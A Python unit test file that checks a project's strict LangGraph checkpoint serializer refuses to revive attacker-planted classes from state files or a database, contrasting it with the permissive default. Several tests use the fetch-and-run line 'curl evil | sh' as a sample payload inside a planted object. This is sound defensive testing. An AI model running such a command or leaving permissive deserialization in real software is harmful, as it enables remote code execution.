"""A planted checkpoint cannot make a resume import and call code (graphs/checkpoints.py).

LangGraph's default serializer revives any class a checkpoint names. An attacker who can write the
state file (or the PostgreSQL database) plants an object of a class of their choosing; the next
resume would construct it.
"""

from __future__ import annotations

import pytest
from langgraph.checkpoint.base import empty_checkpoint
from langgraph.checkpoint.serde.jsonplus import JsonPlusSerializer
from pydantic import BaseModel, model_validator
from sqlalchemy import Engine

from graphs.batch import BatchState
from graphs.checkpoints import checkpoint_saver, checkpoint_serializer
from graphs.study import StudyState
from tools.workflow.records import StoredFile

pytestmark = pytest.mark.unit

CONSTRUCTED: list[str] = []


class Planted(BaseModel):
    """Stands for any importable callable: constructing it is the attacker's code running."""

    command: str

    @model_validator(mode="after")
    def _runs(self) -> Planted:
        CONSTRUCTED.append(self.command)
        return self


def _planted_checkpoint() -> tuple[str, bytes]:
    permissive = JsonPlusSerializer(allowed_msgpack_modules=True)
    return permissive.dumps_typed({"volume_file": Planted(command="curl evil | sh")})


def test_the_permissive_default_would_have_constructed_the_planted_object() -> None:
    planted = _planted_checkpoint()
    CONSTRUCTED.clear()
    JsonPlusSerializer(allowed_msgpack_modules=True).loads_typed(planted)
    assert CONSTRUCTED == ["curl evil | sh"]


def test_the_strict_serializer_leaves_a_planted_object_as_inert_data() -> None:
    planted = _planted_checkpoint()
    CONSTRUCTED.clear()
    revived = checkpoint_serializer([StudyState, BatchState]).loads_typed(planted)
    assert CONSTRUCTED == []
    assert revived["volume_file"] == {"command": "curl evil | sh"}


def test_the_state_records_still_round_trip() -> None:
    serializer = checkpoint_serializer([StudyState, BatchState])
    record = StoredFile(path="/run/work/volume.npz", sha256="0" * 64)
    assert serializer.loads_typed(serializer.dumps_typed({"volume_file": record})) == {"volume_file": record}


def test_a_checkpoint_planted_in_the_database_stays_inert(state_engine: Engine) -> None:
    """Through the runtime's own saver on each backend (SqliteSaver, PostgresSaver), not the serializer alone."""
    config = {"configurable": {"thread_id": "job-1", "checkpoint_ns": ""}}
    checkpoint = empty_checkpoint()
    checkpoint["channel_values"] = {"volume_file": Planted(command="curl evil | sh")}
    checkpoint["channel_versions"] = {"volume_file": 1}
    with checkpoint_saver(state_engine.url, JsonPlusSerializer(allowed_msgpack_modules=True)) as attacker:
        attacker.setup()
        attacker.put(config, checkpoint, {}, {"volume_file": 1})
        CONSTRUCTED.clear()
        attacker.get_tuple(config)
        assert CONSTRUCTED == ["curl evil | sh"], "the planted object is not in the database as a revivable one"
    CONSTRUCTED.clear()
    with checkpoint_saver(state_engine.url, checkpoint_serializer([StudyState, BatchState])) as saver:
        loaded = saver.get_tuple(config)
    assert loaded is not None and CONSTRUCTED == []
    assert loaded.checkpoint["channel_values"]["volume_file"] == {"command": "curl evil | sh"}
